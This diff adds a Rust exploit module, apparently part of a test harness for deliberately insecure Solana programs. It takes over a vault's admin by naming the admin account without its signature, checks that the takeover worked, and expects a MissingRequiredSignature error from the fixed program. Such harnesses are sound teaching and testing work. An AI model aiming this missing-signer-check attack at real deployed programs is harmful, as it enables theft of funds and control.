@@ -0,0 +1,85 @@
+use solana_sdk::{
+    account::Account,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    signer::Signer,
+};
+
+use crate::{Env, Error, Exploit, Location, Program, Result, Severity, SIGNER_CHECKS};
+
+/// Names the vault admin as authority without its signature and installs the
+/// attacker as the new admin.
+#[derive(Default)]
+pub struct AdminTakeover {
+    vault: Pubkey,
+    admin: Pubkey,
+}
+
+impl Exploit for AdminTakeover {
+    fn name(&self) -> &'static str {
+        "signer-checks"
+    }
+
+    fn program(&self) -> Program {
+        SIGNER_CHECKS
+    }
+
+    fn summary(&self) -> &'static str {
+        "replace the vault admin without the admin's signature"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::High
+    }
+
+    fn location(&self) -> Location {
+        Location {
+            instruction: "signer_checks::process_instruction",
+            file: "programs/signer_checks/src/insecure.rs",
+            symbol: "process_instruction",
+        }
+    }
+
+    fn setup(&mut self, env: &mut Env) -> Result<()> {
+        self.admin = Pubkey::new_unique();
+        self.vault = Pubkey::new_unique();
+        env.set_account(
+            self.vault,
+            Account {
+                lamports: env.rent_exempt(32),
+                data: self.admin.to_bytes().to_vec(),
+                owner: SIGNER_CHECKS.id,
+                executable: false,
+                rent_epoch: 0,
+            },
+        );
+        Ok(())
+    }
+
+    fn attack(&mut self, env: &mut Env) -> Result<()> {
+        let attacker = env.payer.pubkey();
+        let ix = Instruction::new_with_bytes(
+            SIGNER_CHECKS.id,
+            attacker.as_ref(),
+            vec![
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new_readonly(self.admin, false),
+            ],
+        );
+        env.send(&[ix], &[])?;
+        Ok(())
+    }
+
+    fn assert_compromised(&self, env: &Env) -> Result<()> {
+        let admin = env.account(&self.vault).map(|vault| vault.data);
+        if admin.as_deref() != Some(env.payer.pubkey().as_ref()) {
+            return Err(Error::NotCompromised("vault admin unchanged".into()));
+        }
+        Ok(())
+    }
+
+    fn expected_error(&self) -> Option<ProgramError> {
+        Some(ProgramError::MissingRequiredSignature)
+    }
+}